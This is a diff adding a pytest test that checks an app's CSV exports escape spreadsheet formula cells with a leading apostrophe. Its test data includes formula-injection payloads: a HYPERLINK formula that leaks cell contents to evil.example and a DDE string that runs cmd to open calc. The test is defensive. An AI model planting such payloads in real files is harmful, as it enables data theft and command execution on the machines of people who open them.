@@ -507,6 +507,51 @@ def test_export_is_self_describing_and_round_trips(app, clock, people, sandbox_a
         assert exported.data["manifest_sha256"] == summary.manifest_sha256
 
 
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "+1 (555) 0100 call now",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1 after a tab",
+    "\r=1+1 after a carriage return",
+    "'an apostrophe of its own",
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_export_csvs_neutralise_formula_cells(app, clock, people, sandbox_account, tmp_path):
+    """Employees' texts (and reviewers' reasons) that a spreadsheet would run as formulas are
+    written with a leading apostrophe, and still read back exactly."""
+    for i, hostile in enumerate(HOSTILE):
+        _item(app, clock, people["alice"], sandbox_account, NOW - timedelta(days=3, minutes=i),
+              reviewer=people["bob"], text=hostile)  # fmt: skip
+    with job_session(app) as s:
+        for action in s.scalars(select(ReviewAction)):
+            action.reason = "=1+1 looks fine"
+    with job_session(app) as s:
+        export_archive(s, tmp_path / "hostile.zip", actor_id=people["bob"].id)
+    manifest, zf = _open_archive(tmp_path / "hostile.zip")
+    assert manifest["format_version"] == 2 and "apostrophe" in manifest["formats"]["csv"]
+    cells: dict[str, list[str]] = {}
+    for f in manifest["files"]:
+        if f["format"] != "csv":
+            continue
+        rows = list(csv.reader(io.StringIO(zf.read(f["name"]).decode(), newline="")))
+        cells[f["table"]] = [c for r in rows[1:] for c in r]
+        bad = [c for c in cells[f["table"]] if c.startswith(FORMULA_START)]
+        assert bad == [], f"{f['name']}: formula cells {bad}"
+        types = {c["name"]: c["type"] for c in f["columns"]}
+        decoded = [
+            {k: parse_csv_value(types[k], cell) for k, cell in zip(rows[0], r, strict=True)}
+            for r in rows[1:]
+        ]
+        assert decoded == _jsonl(zf, f["name"].replace(".csv", ".jsonl"))
+    for hostile in HOSTILE:
+        assert "'" + hostile in cells["outbound_items"], hostile
+        assert "'" + hostile in cells["policy_decisions"], hostile
+    assert "'=1+1 looks fine" in cells["review_actions"]
+
+
 def test_export_scope_by_employee_and_by_period(app, clock, people, sandbox_account, tmp_path):
     alice, carol, bob = people["alice"], people["carol"], people["bob"]
     early = _item(app, clock, alice, sandbox_account, NOW - timedelta(days=40), reviewer=bob)
